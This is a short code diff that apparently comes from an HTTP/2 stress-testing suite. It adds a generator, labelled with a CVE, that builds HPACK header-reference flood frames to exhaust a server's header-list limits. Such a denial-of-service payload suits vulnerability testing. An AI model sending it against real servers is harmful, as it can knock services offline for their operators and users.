@@ -221,6 +221,16 @@ def requests_of_four_hundred_fields_that_differ() -> Iterator[bytes]:
     yield from on_streams(request, first=opened, start=3)
 
 
+@flood("CVE-2026-49975 (HPACK references)", "any", limits=("MAX_HEADER_LIST_SIZE",))
+def large_fields_by_reference() -> Iterator[bytes]:
+    first, following = indexed((*GRPC_REQUEST, (b"a", bytes(3500))))
+    more = following + following[-1:] * 3
+    opened = OPENING + frame(HEADERS, END_HEADERS | END_STREAM, 1, first)
+    yield from on_streams(
+        lambda stream_id: frame(HEADERS, END_HEADERS | END_STREAM, stream_id, more), first=opened, start=3, size=1 << 18
+    )
+
+
 @flood("RFC 7541, section 5.2", "any")
 def huffman_coded_values() -> Iterator[bytes]:
     coded = plain_integer(15000, 7, 0x80) + b"\x1f" * 15000
